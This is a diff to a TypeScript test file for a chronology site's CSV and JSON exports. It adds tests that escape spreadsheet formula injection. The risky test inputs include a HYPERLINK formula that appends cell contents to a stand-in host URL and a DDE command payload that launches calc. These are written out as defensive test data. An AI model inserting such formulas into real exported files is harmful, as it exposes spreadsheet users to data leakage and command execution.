@@ -4,6 +4,8 @@ import { XMLParser } from 'fast-xml-parser';
 import {
   EVENTS_CSV_COLUMNS,
   csvField,
+  csvText,
+  spreadsheetSafe,
   erasJson,
   eventsCsv,
   eventsFeedItems,
@@ -26,6 +28,7 @@ const event = (id: string, date: string, rest: Partial<ChronologyEvent> = {}): C
   title: `Title of ${id}`,
   date,
   bounds: edtfBounds(date),
+  corrections: [],
   dateBasis: { kind: 'inferred', note: 'From the sources.' },
   summary: `Summary of ${id}.`,
   era: 'war',
@@ -169,7 +172,7 @@ describe('eventsJson', () => {
     const first = file.events[0]!;
     expect(Object.keys(first)).toEqual([
       'id', 'url', 'date', 'start', 'end', 'precision', 'approximate', 'uncertain', 'dateBasis',
-      'title', 'summary', 'era', 'places', 'tags', 'claims', 'disputes',
+      'title', 'summary', 'era', 'places', 'tags', 'claims', 'disputes', 'corrections',
     ]);
     expect(first.claims[0]).toEqual({ id: 'a', source: 'alpha', quote: AWKWARD_QUOTE, kind: 'text', note: 'Contradicts beta, "strongly".' });
     expect('note' in first.claims[1]!).toBe(false);
@@ -268,6 +271,27 @@ describe('eventsCsv', () => {
     ]);
     expect(column(rows[3], 'end')).toBe('');
     expect(column(rows[3], 'event_url')).toBe('https://example.org/archive/karabakh/events/2023-exodus/');
+  });
+
+  it('neutralises every cell a spreadsheet would run as a formula, reversibly', () => {
+    const risky = ['=HYPERLINK("https://x.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', "'already quoted'"];
+    const safe = ['plain', '1992-02-26', '', ' =1', '\u2212 minus sign', '“=” in quotes'];
+    const [parsedRow] = parseCsv(csvText([[...risky, ...safe]]));
+    // Every risky cell starts with an apostrophe, so no spreadsheet reads it as a formula ...
+    expect(parsedRow!.slice(0, risky.length).every((cell) => cell.startsWith("'"))).toBe(true);
+    // ... and removing one leading apostrophe, as the data page says, gives back the exact text.
+    expect(parsedRow!.map((cell) => cell.replace(/^'/, ''))).toEqual([...risky, ...safe]);
+    expect(parsedRow!.slice(risky.length)).toEqual(safe);
+    expect(spreadsheetSafe('=1')).toBe("'=1");
+  });
+
+  it('writes a formula-like quote so that it reads as text', () => {
+    const formula = '=cmd|\' /C calc\'!A0';
+    const withFormula = { ...chronology, events: chronology.events.map((e, i) => (i === 0 ? { ...e, claims: [{ ...e.claims[0]!, quote: formula }] } : e)) };
+    const [, ...rows] = parseCsv(eventsCsv(withFormula, SITE));
+    const quotes = rows.map((row) => column(row, 'quote'));
+    expect(quotes).toContain(`'${formula}`);
+    expect(quotes).not.toContain(formula);
   });
 
   it('quotes only what needs quoting', () => {
